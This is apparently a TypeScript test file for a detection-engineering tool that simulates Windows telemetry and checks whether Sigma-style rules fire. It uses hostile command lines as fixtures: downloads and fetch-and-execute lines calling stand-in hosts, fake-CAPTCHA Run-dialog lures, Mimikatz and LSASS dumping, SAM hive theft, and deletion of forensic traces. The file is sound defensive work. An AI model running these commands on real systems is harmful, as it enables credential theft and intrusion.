import { CorpusCoverage } from './corpus-coverage';
import { observableEvents, type ObservableLike } from './observable-events';
import { imageOf } from './process-event';

const cmdline = (value: string): ObservableLike => ({ type: 'cmdline', value });
const eventsOf = (observables: ObservableLike[], product = 'windows') =>
  observableEvents(observables, { product }).map(({ event }) => event);
const withId = (events: Array<Record<string, unknown>>, id: number) => events.filter((event) => event['EventID'] === id);
const USER_HIVE = 'HKU\\S-1-5-21-1004336348-1177238915-682003330-1001';
const RUN_MRU = `${USER_HIVE}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU`;

describe('where a program runs from', () => {
  it('puts Windows programs in their system folders and tools the intruder brought in the working directory', () => {
    expect(imageOf('whoami /all', true)).toBe('C:\\Windows\\System32\\whoami.exe');
    expect(imageOf('chcp', true)).toBe('C:\\Windows\\System32\\chcp.com');
    expect(imageOf('AdFind.exe -f objectcategory=computer', true)).toBe('C:\\Users\\user\\AdFind.exe');
    expect(imageOf('winword.exe /n', true)).toBe('C:\\Program Files\\Microsoft Office\\root\\Office16\\winword.exe');
    expect(imageOf('ssh -R 8080:127.0.0.1:80 relay.example', true)).toBe('C:\\Windows\\System32\\OpenSSH\\ssh.exe');
  });

  it('runs a bare tool from where another of the article’s lines put it, the hidden account read as an account', () => {
    const events = eventsOf([
      cmdline('certutil -urlcache -f http://203.0.113.9/p.exe C:\\Users\\[User]\\AppData\\Local\\Temp\\p.exe'),
      cmdline('p.exe -accepteula \\\\FS01 -s cmd'),
    ]);
    const images = withId(events, 1).map((event) => event['Image']);
    expect(images).toContain('C:\\Users\\user\\AppData\\Local\\Temp\\p.exe');
    expect(images).not.toContain('C:\\Users\\user\\p.exe');
    // Without a line that says where, the working directory, never the system folder.
    expect(withId(eventsOf([cmdline('p.exe -x')]), 1)[0]?.['Image']).toBe('C:\\Users\\user\\p.exe');
  });
});

describe('a line of PowerShell code', () => {
  it('is powershell.exe’s process, never a program named after the cmdlet', () => {
    const processes = withId(eventsOf([cmdline('Invoke-Command -ComputerName FS01 -ScriptBlock {whoami}')]), 1);
    const own = processes.filter((event) => String(event['CommandLine']).startsWith('Invoke-Command'));
    expect(own).toEqual([
      expect.objectContaining({
        Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        OriginalFileName: 'PowerShell.EXE',
      }),
    ]);
    expect(processes.map((event) => String(event['Image']))).not.toContainEqual(expect.stringContaining('Invoke-Command'));
    expect(processes.map((event) => String(event['ParentImage'] ?? ''))).not.toContainEqual(expect.stringContaining('Invoke-Command'));
  });
});

describe('a line pasted into the Run dialog', () => {
  const lure = 'mshta https://cdn.example.net/v # I am not a robot - Verification ID: 4411';

  it('is explorer.exe’s child, and explorer keeps it in RunMRU with the \\1 the dialog appends', () => {
    const events = eventsOf([cmdline(lure)]);
    expect(withId(events, 13)).toContainEqual({
      EventID: 13,
      EventType: 'SetValue',
      TargetObject: `${RUN_MRU}\\a`,
      Details: `${lure}\\1`,
      Image: 'C:\\Windows\\explorer.exe',
    });
    expect(withId(events, 1)).toContainEqual(
      expect.objectContaining({ Image: 'C:\\Windows\\System32\\mshta.exe', ParentImage: 'C:\\Windows\\explorer.exe', CommandLine: lure }),
    );
  });

  it('is the line explorer.exe started, or the lure’s line when the article names the history key', () => {
    const paired = eventsOf([
      cmdline('powershell -w h -c "iex(irm https://cdn.example.net/p)"'),
      { type: 'process_lineage', value: 'explorer.exe -> powershell.exe' },
    ]);
    expect(withId(paired, 13).map((event) => event['Details'])).toEqual(['powershell -w h -c "iex(irm https://cdn.example.net/p)"\\1']);
    const named = eventsOf([
      cmdline('net user'),
      cmdline('cmd /c curl -s https://cdn.example.net/a | cmd'),
      { type: 'registry_key', value: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RunMRU' },
    ]);
    expect(withId(named, 13)).toContainEqual(
      expect.objectContaining({ TargetObject: `${RUN_MRU}\\a`, Details: 'cmd /c curl -s https://cdn.example.net/a | cmd\\1' }),
    );
    // An operator's ordinary line is no paste.
    expect(
      withId(eventsOf([cmdline('net user admin P@ss /add')]), 13).filter((event) => /RunMRU/.test(String(event['TargetObject']))),
    ).toEqual([]);
  });

  it('fires a rule on the dialog’s history of a pasted shell', () => {
    const coverage = new CorpusCoverage<string>();
    coverage.add(
      {
        title: 'Run dialog history with a script host',
        logsource: { product: 'windows', category: 'registry_set' },
        detection: {
          selection: { 'TargetObject|contains': '\\Explorer\\RunMRU\\', 'Details|contains': 'mshta', 'Details|endswith': '\\1' },
          condition: 'selection',
        },
      },
      'runmru',
    );
    expect(coverage.cover([cmdline(lure)], { product: 'windows' })[0]?.rules).toEqual(['runmru']);
  });
});

describe('files a command deletes', () => {
  it('records del, Remove-Item and SDelete as Sysmon file deletions by the deleting program', () => {
    const deletions = (line: string) => withId(eventsOf([cmdline(line)]), 23).map((event) => [event['Image'], event['TargetFilename']]);
    expect(deletions('cmd.exe /c ping 127.0.0.1 -n 2 > nul && del /F "C:\\Users\\[User]\\Desktop\\e.exe"')).toEqual([
      ['C:\\Windows\\System32\\cmd.exe', 'C:\\Users\\user\\Desktop\\e.exe'],
    ]);
    expect(
      deletions('powershell -c "Remove-Item -Path C:\\Windows\\Prefetch\\*.pf -Force; Remove-Item (Get-PSReadlineOption).HistorySavePath"'),
    ).toEqual([
      ['C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'C:\\Windows\\Prefetch\\file.pf'],
      [
        'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
        'C:\\Users\\user\\AppData\\Roaming\\Microsoft\\Windows\\PowerShell\\PSReadLine\\ConsoleHost_history.txt',
      ],
    ]);
    expect(deletions('sdelete64.exe -accepteula -p 3 C:\\ProgramData\\loader.exe')).toEqual([
      ['C:\\Users\\user\\sdelete64.exe', 'C:\\ProgramData\\ZZZZZZ.ZZZ'],
    ]);
  });

  it('fires file_delete rules on deletions only, and file_event rules on creations only', () => {
    const coverage = new CorpusCoverage<string>();
    const rule = (category: string, id: string) =>
      coverage.add(
        {
          title: id,
          logsource: { product: 'windows', category },
          detection: { selection: { 'TargetFilename|endswith': '.pf' }, condition: 'selection' },
        },
        id,
      );
    rule('file_delete', 'deleted');
    rule('file_event', 'created');
    const fired = (line: string) => coverage.cover([cmdline(line)], { product: 'windows' })[0]?.rules;
    expect(fired('del C:\\Windows\\Prefetch\\*.pf')).toEqual(['deleted']);
    expect(fired('curl -o C:\\Users\\Public\\x.pf http://203.0.113.9/x.pf')).toEqual(['created']);
  });
});

describe('the words of a fake check', () => {
  it('mark a lure’s line as pasted, but not when they only sit in a host name', () => {
    const entries = (line: string) => withId(eventsOf([cmdline(line)]), 13).filter((event) => /RunMRU/.test(String(event['TargetObject'])));
    expect(entries("cmd /k start /min finger relay@203.0.113.7 | cmd & echo '--- Verify you are human: press ENTER ---'")).toHaveLength(1);
    expect(entries('powershell -c "iwr https://verify-human.example.com/a -OutFile a.exe"')).toEqual([]);
  });
});

describe('dumps of LSASS beyond ProcDump and comsvcs', () => {
  const access = (line: string) => withId(eventsOf([cmdline(line)]), 10).map((event) => [event['SourceImage'], event['GrantedAccess']]);
  const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

  it('opens lsass.exe from PowerShell for Invoke-Mimikatz and Out-Minidump', () => {
    expect(access('powershell -ep bypass -c "IEX (iwr http://203.0.113.4/im.ps1); Invoke-Mimikatz -DumpCreds"')).toEqual([
      [POWERSHELL, '0x1010'],
    ]);
    expect(access('powershell -c "Get-Process lsass | Out-Minidump -DumpFilePath C:\\Windows\\Temp"')).toEqual([[POWERSHELL, '0x1fffff']]);
  });

  it('opens it from rdrleakdiag and from a brought tool told lsass, with the dump file they write', () => {
    const events = eventsOf([cmdline('rdrleakdiag.exe /p 640 /o C:\\Windows\\Temp /fullmemdmp /wait 1')]);
    expect(withId(events, 10)).toEqual([
      expect.objectContaining({ SourceImage: 'C:\\Windows\\System32\\rdrleakdiag.exe', GrantedAccess: '0x1fffff' }),
    ]);
    expect(withId(events, 11).map((event) => event['TargetFilename'])).toContain('C:\\Windows\\Temp\\minidump_640.dmp');
    expect(access('C:\\Users\\Public\\dd.exe lsass')).toEqual([['C:\\Users\\Public\\dd.exe', '0x1fffff']]);
    // Windows' own process tools that only name lsass read no memory.
    expect(access('tasklist /fi "imagename eq lsass.exe"')).toEqual([]);
  });
});

describe('why a corpus rule fired on an observable', () => {
  it('keeps each distinct reason, not only the first event’s', () => {
    const coverage = new CorpusCoverage<string>();
    coverage.add(
      {
        title: 'Shell or registry tool',
        level: 'medium',
        logsource: { product: 'windows', category: 'process_creation' },
        detection: {
          selection_shell: { 'Image|endswith': '\\cmd.exe', 'CommandLine|contains': 'reg add' },
          selection_reg: { 'Image|endswith': '\\reg.exe', 'CommandLine|contains': 'RunOnce' },
          condition: '1 of selection_*',
        },
      },
      'either',
    );
    const [entry] = coverage.cover(
      [cmdline('cmd /c reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce /v u /d x.exe /f')],
      {
        product: 'windows',
        explain: true,
      },
    );
    const [match] = entry?.explained ?? [];
    const selections = [match?.matched, ...(match?.also ?? [])].map((items) => items?.map((item) => item.selection)[0]);
    expect(selections).toEqual(['selection_shell', 'selection_reg']);
  });
});

describe('the fields Windows writes beside the ones an event is built from', () => {
  it('signs Windows’ own DLLs and leaves a DLL elsewhere unsigned', () => {
    const loads = withId(eventsOf([cmdline('rundll32.exe C:\\ProgramData\\x.dll,Start')]), 7);
    expect(loads).toContainEqual(expect.objectContaining({ ImageLoaded: 'C:\\ProgramData\\x.dll', Signed: 'false' }));
    const system = withId(eventsOf([cmdline('rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 640 C:\\x.dmp full')]), 7);
    expect(system).toContainEqual(
      expect.objectContaining({ ImageLoaded: 'C:\\Windows\\System32\\comsvcs.dll', Signed: 'true', Signature: 'Microsoft Windows' }),
    );
  });

  it('gives a URL’s connection its address and port, and every connection its protocol', () => {
    const [connection] = withId(eventsOf([{ type: 'url', value: 'http://203.0.113.4:8080/a.exe' }]), 3);
    expect(connection).toMatchObject({ DestinationIp: '203.0.113.4', DestinationPort: 8080, Protocol: 'tcp', DestinationIsIpv6: 'false' });
    expect(withId(eventsOf([{ type: 'url', value: 'https://cdn.example.net/x' }]), 3)[0]).toMatchObject({ DestinationPort: 443 });
  });

  it('has every PowerShell host create its PSHost pipe', () => {
    expect(withId(eventsOf([cmdline('powershell -c Get-Date')]), 17)).toContainEqual(
      expect.objectContaining({ PipeName: expect.stringMatching(/^\\PSHost\.\d+\.\d+\.DefaultAppDomain\.powershell$/) }),
    );
    expect(withId(eventsOf([cmdline('whoami /all')]), 17)).toEqual([]);
  });

  it('records a handle opened on LSASS in the Security log too, naming the process that asked', () => {
    const records = eventsOf([cmdline('procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp')]);
    expect(withId(records, 4656)).toEqual([
      expect.objectContaining({
        ObjectType: 'Process',
        ObjectName: expect.stringMatching(/\\lsass\.exe$/),
        AccessMask: '0x1fffff',
        ProcessName: 'C:\\Users\\user\\procdump64.exe',
      }),
    ]);
    expect(withId(records, 4663)).toEqual([expect.objectContaining({ AccessList: '%%4484' })]);
  });
});

describe('Defender’s detections of well-known offensive tools', () => {
  const detections = (line: string) => withId(eventsOf([cmdline(line)]), 1116).map((event) => [event['SourceName'], event['ThreatName']]);

  it('names a hacktool that runs, offensive PowerShell AMSI shows it, and a dump of LSASS', () => {
    expect(detections('mimikatz.exe "sekurlsa::logonpasswords" exit')).toContainEqual([
      'Real-Time Protection',
      'HackTool:Win64/Mikatz!dha',
    ]);
    expect(detections('powershell -c "IEX (iwr http://203.0.113.4/im.ps1); Invoke-Mimikatz -DumpCreds"')).toContainEqual([
      'AMSI',
      'HackTool:PowerShell/Mimikatz',
    ]);
    expect(detections('procdump64.exe -accepteula -ma lsass.exe C:\\Windows\\Temp\\l.dmp')).toEqual([
      ['Real-Time Protection', 'Behavior:Win32/LsassDump.A'],
    ]);
  });

  it('stays quiet on ordinary administration', () => {
    expect(detections('whoami /all')).toEqual([]);
    expect(detections('powershell -c Get-Service')).toEqual([]);
  });
});

describe('a kernel driver a command installs', () => {
  it('is read by driver_load rules', () => {
    const coverage = new CorpusCoverage<string>();
    coverage.add(
      {
        title: 'Driver by name',
        logsource: { product: 'windows', category: 'driver_load' },
        detection: { selection: { 'ImageLoaded|endswith': '\\quilldrv.sys' }, condition: 'selection' },
      },
      'driver',
    );
    const [entry] = coverage.cover([cmdline('sc create quill type= kernel binPath= C:\\Windows\\Temp\\quilldrv.sys')], {
      product: 'windows',
    });
    expect(entry?.rules).toEqual(['driver']);
  });
});

describe('what object access auditing records of a command', () => {
  it('mirrors a registry value written as 4657, with the key as the kernel names it', () => {
    const events = eventsOf([
      cmdline('reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\Lsa /v LmCompatibilityLevel /t REG_DWORD /d 2 /f'),
    ]);
    expect(withId(events, 4657)).toEqual([
      expect.objectContaining({
        // The key's case is the write's (see command-side-effects.ts); rules compare without it.
        ObjectName: expect.stringMatching(/^\\REGISTRY\\MACHINE\\SYSTEM\\CurrentControlSet\\Control\\Lsa$/i),
        ObjectValueName: expect.stringMatching(/^LmCompatibilityLevel$/i),
        NewValue: '2',
        ProcessName: 'C:\\Windows\\System32\\reg.exe',
      }),
    ]);
  });

  it('records the DELETE on a deleted file and the handle on a credential hive reg save copies', () => {
    expect(withId(eventsOf([cmdline('sdelete64.exe -accepteula C:\\ProgramData\\x.exe')]), 4663)).toEqual([
      expect.objectContaining({ ObjectType: 'File', ObjectName: 'C:\\ProgramData\\Z.ZZZ', AccessList: '%%1537' }),
    ]);
    expect(withId(eventsOf([cmdline('reg save HKLM\\SAM C:\\ProgramData\\sam.save')]), 4656)).toEqual([
      expect.objectContaining({ ObjectType: 'Key', ObjectName: '\\REGISTRY\\MACHINE\\SAM' }),
    ]);
    expect(withId(eventsOf([cmdline('reg save HKCU\\Software\\Vendor C:\\ProgramData\\v.hiv')]), 4656)).toEqual([]);
  });
});
